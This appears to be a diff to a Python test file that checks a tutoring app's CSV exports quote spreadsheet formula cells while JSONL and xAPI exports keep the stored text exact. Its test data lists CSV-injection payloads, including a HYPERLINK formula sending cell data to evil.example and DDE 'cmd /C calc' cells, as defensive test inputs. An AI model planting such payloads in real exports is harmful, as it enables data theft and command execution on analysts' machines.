@@ -24,16 +24,17 @@ from mentor.api import create_app
 from mentor.api.schemas import ChatResponse
 from mentor.db import make_engine
 from mentor.runtime import build_chat
+from mentor.signals.exports import FORMULA_STARTS, export_lines
 from mentor.signals.queries import purge_older_than
 from mentor.signals.schema import migrate
 from mentor.signals.tables import FeedbackRow, LearnerRow, PassageRow, QuestionRow, ToolCallRow
 from mentor.signals.writer import SignalWriter
 
-from .conftest import MODULE_ID, make_settings
+from .conftest import MODULE_ID, UNLIMITED, make_settings
 from .proxy import Proxy
 
 PG = "postgresql+psycopg://postgres@127.0.0.1:5432/test"
-TOKEN = "analyst-secret-token"
+TOKEN = "analyst-secret-token-of-at-least-32-bytes"
 
 
 @pytest.fixture(params=["sqlite", "postgresql"])
@@ -54,7 +55,7 @@ def db_url(request, tmp_path):
 
 def signals_runtime(runtime, tmp_path, url, **settings):
     """The session runtime with its own database, writer and chat service (same index and embedder)."""
-    config = make_settings(tmp_path, database_url=url, rate_limit_per_minute=10_000, analyst_token=TOKEN, **settings)
+    config = make_settings(tmp_path, database_url=url, analyst_token=TOKEN, **UNLIMITED | settings)
     engine = make_engine(url)
     migrate(engine)
     writer = SignalWriter(engine, tmp_path / "signals.spool", embed=runtime.embedder.embed_query, retry_s=0.1)
@@ -339,6 +340,67 @@ def test_exports_parse_back(analyst) -> None:
     ]
     assert [s["id"] for s in again] == [s["id"] for s in statements]  # stable ids
     assert client.get("/v1/signals/export", params={"format": "pdf"}, headers=AUTH).status_code == 422
+
+
+# Cells OWASP's CSV-injection guidance names: each would run in a spreadsheet as a formula (a tab or carriage return
+# is dropped first, then the formula after it runs).
+HOSTILE_QUESTIONS = [
+    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
+    "+cmd|' /C calc'!A0",
+    "@SUM(1+1)",
+    "-2+3+cmd|' /C calc'!A0",
+    "\t=1+1 what does ZeRO stage 2 shard?",
+    "\r=1+1 what does ZeRO stage 2 shard?",
+]
+
+
+def formula_cells(table: list[list[str]]) -> list[str]:
+    """The cells a spreadsheet would read as a formula: text starting with = + - @ tab or CR (a number is data)."""
+    live = []
+    for cell in (cell for row in table for cell in row):
+        try:
+            float(cell)  # "-0.25" is a negative relevance, not a formula
+        except ValueError:
+            if cell.startswith(FORMULA_STARTS):
+                live.append(cell)
+    return live
+
+
+def test_csv_exports_carry_no_formula_cells_and_jsonl_the_exact_text(analyst, tmp_path) -> None:
+    rt, client = analyst
+    for i, message in enumerate(HOSTILE_QUESTIONS):
+        response = client.post("/v1/chat", json={"message": message, "learner_id": f"formula-{i}"})
+        assert response.status_code == 200, response.text
+    assert rt.writer.flush()
+    jsonl = client.get("/v1/signals/export", params={"format": "jsonl"}, headers=AUTH).text
+    records = [json.loads(line) for line in jsonl.splitlines()]
+    stored = [record["text"] for record in records]
+    assert len(stored) == len(HOSTILE_QUESTIONS)
+    # The questions are stored as the scrubber left them; at least the four formulas reach storage with their lead
+    # character (so the test would see a live cell if the export let one through).
+    assert sum(text.startswith(FORMULA_STARTS) for text in stored) >= 4, stored
+    # The tab- and CR-led questions may be trimmed on the way in: the real exporter gets them as stored rows too.
+    rows = records + [records[0] | {"question_id": f"raw-{i}", "text": q} for i, q in enumerate(HOSTILE_QUESTIONS)]
+    through_http = client.get("/v1/signals/export", params={"format": "csv"}, headers=AUTH).text
+    written = "".join(export_lines(rows, "csv", home_page="https://learn.example.org"))
+    for exported in (through_http, written):
+        table = list(csv.reader(io.StringIO(exported, newline="")))
+        assert len(table) > len(HOSTILE_QUESTIONS) and formula_cells(table) == []
+    table = list(csv.DictReader(io.StringIO(written, newline="")))
+    texts = {row["question_id"]: row["text"] for row in table}
+    for record in rows:  # quoted, not changed: a leading ' and then exactly what was stored
+        expected = "'" + record["text"] if record["text"].startswith(FORMULA_STARTS) else record["text"]
+        assert texts[record["question_id"]] == expected
+    assert texts["raw-0"] == "'" + HOSTILE_QUESTIONS[0] and texts["raw-4"] == "'" + HOSTILE_QUESTIONS[4]
+    # JSON lines (and xAPI) stay byte-exact: the stored text, not a spreadsheet's quoting of it.
+    assert "".join(export_lines(rows, "jsonl", home_page="https://learn.example.org")).splitlines()[-1] == json.dumps(
+        rows[-1], ensure_ascii=False
+    )
+    assert [json.loads(line)["text"] for line in jsonl.splitlines()] == stored
+    xapi = client.get("/v1/signals/export", params={"format": "xapi"}, headers=AUTH).text
+    questions = [next(v for k, v in json.loads(line)["context"]["extensions"].items() if k.endswith("/question"))
+                 for line in xapi.splitlines()]  # fmt: skip
+    assert questions == stored
 
 
 def test_feedback_only_from_the_learner_who_asked(analyst) -> None:
